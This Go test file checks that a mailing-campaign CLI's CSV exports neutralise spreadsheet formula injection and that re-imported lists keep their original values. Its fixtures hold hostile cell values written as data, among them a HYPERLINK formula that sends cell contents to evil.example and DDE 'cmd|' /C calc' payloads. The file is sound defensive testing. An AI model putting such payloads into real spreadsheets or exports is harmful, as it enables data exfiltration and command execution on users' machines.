package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/repermit/repermit"
	"github.com/repermit/repermit/export"
	"github.com/repermit/repermit/redisstore"
	"github.com/repermit/repermit/redistest"
)

// formulaStart reports whether a spreadsheet could read cell as a formula:
// its first character, or its first after leading blanks, is one that
// Excel, LibreOffice or Google Sheets start a formula with.
func formulaStart(cell string) bool {
	if cell == "" {
		return false
	}
	if strings.ContainsRune("=+-@\t\r\n\x00", rune(cell[0])) {
		return true
	}
	rest := strings.TrimLeft(cell, " \t\r\n\u00a0")
	for _, p := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(rest, p) {
			return true
		}
	}
	return false
}

// TestExportsNeutraliseFormulas launches recipients whose names and
// addresses a spreadsheet would run as formulas, and checks that no cell of
// either CSV export starts like a formula, that every cell is quoted (so a
// spreadsheet splitting at ';' cannot cut a cell in two), and that the
// original text is the cell minus the leading quote.
func TestExportsNeutraliseFormulas(t *testing.T) {
	hostile := []struct{ email, name string }{
		{"h0@example.com", `=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"h1@example.com", `+cmd|' /C calc'!A0`},
		{"h2@example.com", `@SUM(1+1)*cmd|' /C calc'!A0`},
		{"h3@example.com", `-1+2`},
		{"h4@example.com", "\t=1+1"},
		{"h5@example.com", `Anna;=1+1`},
		{"h6@example.com", `＝1+1`},
		{"-h7@example.com", `Plain Name`},
		{"=h8@example.com", `Plain Name`},
	}
	r := redistest.New(t)
	c := newCLI(t, r)
	var rows strings.Builder
	rows.WriteString("email,name\n")
	for _, h := range hostile {
		fmt.Fprintf(&rows, "%s,\"%s\"\n", h.email, strings.ReplaceAll(h.name, `"`, `""`))
	}
	dir := writeFiles(t, map[string]string{"campaign.yaml": fmt.Sprintf(campaignYAML, "formulas"), "recipients.csv": rows.String()})
	if code, _, errOut := c.run("launch", filepath.Join(dir, "campaign.yaml")); code != 0 {
		t.Fatalf("launch: exit %d: %s", code, errOut)
	}
	st := redisstore.New(r.Client, r.Prefix)
	ctx := context.Background()
	for i := range hostile {
		state := repermit.StateConfirmed
		if i%2 == 1 {
			state = repermit.StateDeclined
		}
		if _, err := st.Record(ctx, redisstore.Answer{Campaign: "formulas", Index: int64(i), State: state, Topics: []string{"yoga"}, At: c.now}); err != nil {
			t.Fatal(err)
		}
	}

	for _, what := range []string{"confirmed", "suppressed"} {
		code, out, errOut := c.run("export", "formulas", "--what", what)
		if code != 0 {
			t.Fatalf("export %s: exit %d: %s", what, code, errOut)
		}
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("export %s does not parse: %v\n%s", what, err, out)
		}
		for _, line := range strings.Split(strings.TrimRight(out, "\r\n"), "\n") {
			line = strings.TrimSuffix(line, "\r")
			if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
				t.Errorf("export %s: a cell of this line is not quoted: %q", what, line)
			}
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if formulaStart(cell) {
					t.Errorf("export %s: cell %q starts like a formula", what, cell)
				}
			}
		}
		if what != "confirmed" {
			continue
		}
		got := make(map[string]string)
		for _, rec := range recs[1:] {
			got[strings.TrimPrefix(rec[0], "'")] = strings.TrimPrefix(rec[1], "'")
		}
		for i, h := range hostile {
			if i%2 == 1 {
				continue
			}
			want := strings.TrimSpace(h.name)
			if name, ok := got[h.email]; !ok || name != want {
				t.Errorf("confirmed %s: name %q (found %v), want %q behind the quote", h.email, name, ok, want)
			}
		}
	}
}

// TestNeutralisedCellsLaunchAsTheirOriginals: the exports put a ' in front
// of a cell that starts like a formula, and the unreached export is meant
// to go straight into a later campaign. A list written that way (and a
// suppression list of such addresses) launches with the original
// addresses, names and columns, not with the quote: "'-ann@example.com"
// was launched as another address than the unreached -ann@example.com.
func TestNeutralisedCellsLaunchAsTheirOriginals(t *testing.T) {
	rows := []struct{ email, name, plan string }{
		{"-ann@example.com", `=HYPERLINK("http://evil.example/","x")`, "+49 30 1234"},
		{"=bob@example.com", "-1+2", "@home"},
		{"+carl@example.com", "@SUM(1)", "-"},
		{"dora@example.com", "'Neill", "O'Neill"},
		{"eve@example.com", "＝1+1", " =x"},
		{"'frank@example.com", "''=twice", "'"},
	}
	var list bytes.Buffer
	w := export.NewCSVWriter(&list)
	w.Write([]string{"email", "name", "plan"})
	for _, r := range rows {
		w.Write([]string{r.email, r.name, r.plan})
	}
	w.Write([]string{"-suppressed@example.com", "Sue", ""})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	var supp bytes.Buffer
	w = export.NewCSVWriter(&supp)
	w.Write([]string{"email"})
	w.Write([]string{"-suppressed@example.com"})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(list.String(), `"'-ann@example.com"`) || !strings.Contains(supp.String(), `"'-suppressed@example.com"`) {
		t.Fatalf("the lists are not neutralised as the exports write them:\n%s%s", list.String(), supp.String())
	}
	r := redistest.New(t)
	c := newCLI(t, r)
	dir := writeFiles(t, map[string]string{
		"campaign.yaml":   fmt.Sprintf(campaignYAML, "relaunch") + "suppression: suppression.csv\n",
		"recipients.csv":  list.String(),
		"suppression.csv": supp.String(),
	})
	if code, out, errOut := c.run("launch", filepath.Join(dir, "campaign.yaml")); code != 0 || !strings.Contains(out, fmt.Sprintf("%d imported, 0 invalid, 0 duplicate, 1 suppressed", len(rows))) {
		t.Fatalf("launch: exit %d: %s%s", code, out, errOut)
	}
	st := redisstore.New(r.Client, r.Prefix)
	for i, want := range rows {
		got, err := st.Recipient(context.Background(), "relaunch", int64(i))
		if err != nil {
			t.Fatal(err)
		}
		if got.Email != want.email || got.Name != strings.TrimSpace(want.name) || got.Extra["plan"] != want.plan {
			t.Errorf("recipient %d: %q %q plan %q, want %q %q plan %q", i, got.Email, got.Name, got.Extra["plan"], want.email, want.name, want.plan)
		}
	}
}
